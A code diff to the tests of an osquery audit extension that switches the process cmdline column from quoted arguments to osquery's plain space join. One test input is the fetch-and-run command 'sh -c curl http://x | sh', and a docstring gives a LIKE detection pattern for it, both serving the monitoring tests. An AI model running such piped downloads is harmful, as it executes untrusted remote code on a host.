@@ -22,7 +22,6 @@ from osquery_audit_ext.events.rows import (
     argv_columns,
     display_text,
     process_row,
-    quote_arg,
     socket_row,
 )
 from osquery_audit_ext.sdk.tablespec import load_spec
@@ -136,7 +135,7 @@ def test_exec_row_from_records() -> None:
         "/usr/bin/ls",
         "/home/bob",
     )
-    assert row["cmdline"] == 'ls -l "/tmp/a b/"'
+    assert row["cmdline"] == "ls -l /tmp/a b/"  # osquery's plain join
     assert json.loads(row["argv"]) == ["ls", "-l", "/tmp/a b/"]
     assert (row["time"], row["time_ms"], row["uptime"], row["serial"]) == (
         1700000000,
@@ -221,63 +220,23 @@ def test_unix_rows_carry_the_family_the_service_filters_on() -> None:
 
 
 @pytest.mark.parametrize(
-    ("arg", "quoted"),
+    ("args", "cmdline"),
     [
-        ("plain", "plain"),
-        ("--opt=value", "--opt=value"),
-        ("café", "café"),
-        ("", '""'),
-        ("two words", '"two words"'),
-        ('say "hi"', '"say \\"hi\\""'),
-        ("it's", '"it\'s"'),
-        ("back\\slash", '"back\\\\slash"'),
-        ("tab\there", '"tab\\there"'),
-        ("line\nbreak\r", '"line\\nbreak\\r"'),
-        ("bell\x07", '"bell\\u0007"'),
-        ("del\x7f", '"del\\u007f"'),
-        ("c1\u0085", '"c1\\u0085"'),
-        ("\udcff\udcfe", '"\\xff\\xfe"'),
+        ([b"sh", b"-c", b"curl http://x | sh"], "sh -c curl http://x | sh"),
+        ([b"echo", b'say "hi"', b"it's"], 'echo say "hi" it\'s'),
+        ([b"printf", b"a\tb\n"], "printf a\tb\n"),
+        ([b"x", b"", b"y"], "x  y"),
+        ([b"caf\xc3\xa9", b"\xff"], "café \\xff"),
+        ([], ""),
     ],
 )
-def test_quote_arg(arg: str, quoted: str) -> None:
-    assert quote_arg(arg) == quoted
-
-
-def split_cmdline(cmdline: str) -> list[bytes]:
-    """The inverse of the documented cmdline quoting (rows.py docstring)."""
-    args: list[bytes] = []
-    i, n = 0, len(cmdline)
-    simple = {'"': b'"', "\\": b"\\", "n": b"\n", "t": b"\t", "r": b"\r"}
-    while i < n:
-        if cmdline[i] == '"':
-            i += 1
-            buf = bytearray()
-            while cmdline[i] != '"':
-                char = cmdline[i]
-                if char != "\\":
-                    buf += char.encode()
-                    i += 1
-                elif cmdline[i + 1] in simple:
-                    buf += simple[cmdline[i + 1]]
-                    i += 2
-                elif cmdline[i + 1] == "x":
-                    buf.append(int(cmdline[i + 2 : i + 4], 16))
-                    i += 4
-                else:
-                    assert cmdline[i + 1] == "u"
-                    buf += chr(int(cmdline[i + 2 : i + 6], 16)).encode()
-                    i += 6
-            args.append(bytes(buf))
-            i += 1
-        else:
-            end = cmdline.find(" ", i)
-            end = n if end < 0 else end
-            args.append(cmdline[i:end].encode())
-            i = end
-        if i < n:
-            assert cmdline[i] == " "
-            i += 1
-    return args
+def test_cmdline_is_osquerys_plain_join(args: list[bytes], cmdline: str) -> None:
+    """As osquery joins EXECVE arguments: single spaces, no quoting, so its LIKE queries
+    (`cmdline LIKE '%-c curl%'`) match; invalid UTF-8 written as \\xNN."""
+    got, argv, size = argv_columns(args)
+    assert got == cmdline
+    assert size == len(cmdline.encode("utf-8"))
+    assert [a.encode("utf-8", "surrogateescape") for a in json.loads(argv)] == args
 
 
 argument = st.binary(max_size=30).map(lambda b: b.replace(b"\x00", b"")) | st.text(max_size=20).map(
@@ -286,20 +245,20 @@ argument = st.binary(max_size=30).map(lambda b: b.replace(b"\x00", b"")) | st.te
 
 
 @given(st.lists(argument, max_size=8))
-def test_cmdline_and_argv_are_reversible_and_valid_utf8(args: list[bytes]) -> None:
+def test_argv_is_reversible_and_cmdline_is_the_join(args: list[bytes]) -> None:
     cmdline, argv, size = argv_columns(args)
     cmdline.encode("utf-8")
     argv.encode("utf-8")
-    assert split_cmdline(cmdline) == args
+    assert cmdline == display_text(b" ".join(args))
     assert [a.encode("utf-8", "surrogateescape") for a in json.loads(argv)] == args
-    assert size == len(b" ".join(args))
+    assert size == len(cmdline.encode("utf-8"))
 
 
 def test_argv_json_escapes_invalid_bytes_as_surrogates() -> None:
     cmdline, argv, size = argv_columns([b"a\xffb", b"\xc3\xa9"])
     assert argv == '["a\\udcffb", "é"]'
-    assert cmdline == '"a\\xffb" é'
-    assert size == 6
+    assert cmdline == "a\\xffb é"
+    assert size == 9
 
 
 def test_display_text() -> None:
@@ -403,7 +362,7 @@ def test_real_execve_argv_is_exact(kernel_rw: None, audit_enabled: None, auditct
         os.fsencode(a) for a in argv
     ]
     assert row["path"] == "/bin/true" and row["parent"] == os.getpid()
-    assert split_cmdline(row["cmdline"]) == [os.fsencode(a) for a in argv]
+    assert row["cmdline"] == display_text(b" ".join(os.fsencode(a) for a in argv))
     assert row["overflows"] == ""
 
 
